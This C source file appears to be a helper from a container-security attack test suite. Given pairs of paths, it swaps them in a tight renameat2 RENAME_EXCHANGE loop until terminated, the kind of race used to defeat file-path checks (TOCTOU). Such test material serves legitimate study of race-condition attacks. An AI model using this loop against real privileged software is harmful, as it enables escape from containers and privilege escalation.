/* SPDX-License-Identifier: MIT */

/*
 * Inside of a container: exchange two names as fast as the kernel can, until TERM (S4, S5)
 *
 *     swap ONE OTHER [ONE OTHER]...
 *
 * Prints "swapping" at once and "swapped N" at the end.
 */

#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

#include "attack.h"

int main(int argc, char **argv)
{
    unsigned long count = 0;

    signal(SIGTERM, end);
    while (!ended) {
        for (int i = 1; i + 1 < argc; i += 2) {
            if (renameat2(AT_FDCWD, argv[i], AT_FDCWD, argv[i + 1], RENAME_EXCHANGE) < 0) {
                perror(argv[i]);
                return 1;
            }
        }
        if (count++ == 0) {
            puts("swapping");
            fflush(stdout);
        }
    }
    printf("swapped %lu\n", count);
    return 0;
}
